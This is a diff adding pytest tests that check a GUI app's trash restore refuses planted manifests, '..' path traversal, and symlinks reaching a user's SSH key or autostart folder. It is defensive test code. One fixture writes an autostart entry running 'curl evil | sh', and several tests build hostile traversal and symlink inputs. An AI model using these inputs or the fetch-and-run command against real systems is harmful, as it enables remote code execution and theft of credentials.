@@ -16,6 +16,7 @@ from daycare_gui.core.edit.trash import (
     list_trash,
     move_to_trash,
     restore,
+    scan_trash,
     trash_dir,
 )
 from daycare_gui.core.edit.views import CronTaskDoc
@@ -265,3 +266,109 @@ def test_restore_into_a_read_only_folder_says_so_and_keeps_the_item(store):
     assert list_trash(store) == [entry]
     restore(entry)  # once the folder is writable again
     assert path.read_bytes() == data
+
+
+# --- the trash is part of the (untrusted) store: a planted manifest must not reach outside it -------------
+
+
+def _plant(store, name, manifest, item=None):
+    """A trash entry written by someone else: ``manifest`` as given, ``item`` (relative path → bytes)."""
+    folder = trash_dir(store) / name
+    folder.mkdir(parents=True)
+    (folder / MANIFEST_NAME).write_text(json.dumps(manifest))
+    for relative, data in (item or {}).items():
+        (folder / relative).parent.mkdir(parents=True, exist_ok=True)
+        (folder / relative).write_bytes(data)
+    return folder
+
+
+def _restore_everything_listed(store):
+    for entry in list_trash(store):
+        try:
+            restore(entry)
+        except TrashError:
+            pass
+
+
+@pytest.fixture
+def home(tmp_path):
+    """The user's own files beside the store: a private key and an autostart folder."""
+    ssh = tmp_path / "home" / ".ssh"
+    ssh.mkdir(parents=True)
+    (ssh / "id_ed25519").write_bytes(b"PRIVATE KEY\n")
+    (tmp_path / "home" / "autostart").mkdir()
+    return tmp_path / "home"
+
+
+def test_a_manifest_naming_a_place_outside_the_store_is_refused(store, home):
+    autostart = home / "autostart" / "evil.desktop"
+    folder = _plant(store, "20260101-000000-000001",
+                    {"original": str(autostart), "relative": "evil.desktop", "kind": "file"},
+                    {"evil.desktop": b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"})
+    _restore_everything_listed(store)
+    assert not autostart.exists()
+    assert list_trash(store) == []
+    (refused,) = scan_trash(store)[1]
+    assert refused.folder == folder and "evil.desktop" in refused.reason
+
+
+def test_a_relative_path_leaving_the_entry_folder_is_refused(store, home):
+    key = home / ".ssh" / "id_ed25519"
+    up = "/".join([".."] * len((trash_dir(store) / "x").relative_to(home.parent).parts))
+    relative = f"{up}/home/.ssh/id_ed25519"
+    _plant(store, "20260101-000000-000002",
+           {"original": str(store.root / relative), "relative": relative, "kind": "file"})
+    assert (trash_dir(store) / "20260101-000000-000002" / relative).resolve() == key  # it would have been moved
+    _restore_everything_listed(store)
+    assert key.read_bytes() == b"PRIVATE KEY\n"
+    assert list_trash(store) == []
+    (refused,) = scan_trash(store)[1]
+    assert "leaves the entry folder" in refused.reason
+
+
+def test_a_symlinked_folder_in_an_entry_is_refused(store, home):
+    key = home / ".ssh" / "id_ed25519"
+    folder = _plant(store, "20260101-000000-000003",
+                    {"original": str(store.root / "stolen" / "id_ed25519"), "relative": "stolen/id_ed25519"})
+    (folder / "stolen").symlink_to(home / ".ssh")
+    linked = trash_dir(store) / "20260101-000000-000004"
+    linked.symlink_to(home / ".ssh")  # the entry folder itself a link to the user's folder
+    (home / ".ssh" / MANIFEST_NAME).write_text(json.dumps(
+        {"original": str(store.root / "id_ed25519"), "relative": "id_ed25519"}))
+    _restore_everything_listed(store)
+    assert key.read_bytes() == b"PRIVATE KEY\n"
+    assert not (store.root / "stolen").exists() and not (store.root / "id_ed25519").exists()
+    assert list_trash(store) == []
+    reasons = sorted(r.reason for r in scan_trash(store)[1])
+    assert len(reasons) == 2 and all("symlink" in r for r in reasons)
+
+
+def test_a_trashed_symlink_pointing_out_of_the_store_is_refused(store, home):
+    folder = _plant(store, "20260101-000000-000005",
+                    {"original": str(store.root / "skills" / "key.md"), "relative": "skills/key.md"})
+    (folder / "skills").mkdir()
+    (folder / "skills" / "key.md").symlink_to(home / ".ssh" / "id_ed25519")
+    _restore_everything_listed(store)
+    assert not (store.root / "skills" / "key.md").is_symlink()
+    (refused,) = scan_trash(store)[1]
+    assert "outside the store" in refused.reason
+
+
+def test_a_store_folder_turned_into_a_link_out_is_not_restored_through(store, home):
+    path = store.root / "heartbeat" / "check-inbox.md"
+    data = path.read_bytes()
+    entry = move_to_trash(store, path)
+    (store.root / "heartbeat").rename(store.root / "heartbeat-moved")
+    (store.root / "heartbeat").symlink_to(home / "autostart")  # after the listing, before Restore
+    with pytest.raises(TrashError, match="outside the store"):
+        restore(entry)
+    assert list(home.joinpath("autostart").iterdir()) == [] and entry.stored.read_bytes() == data
+
+
+def test_a_trash_folder_that_is_a_link_out_of_the_store_is_not_used(store, home):
+    trash_dir(store).symlink_to(home / "autostart", target_is_directory=True)
+    path = store.root / "heartbeat" / "check-inbox.md"
+    with pytest.raises(TrashError, match="is a symlink"):
+        move_to_trash(store, path)
+    assert path.exists() and list((home / "autostart").iterdir()) == []
+    assert list_trash(store) == [] and "symlink" in scan_trash(store)[1][0].reason
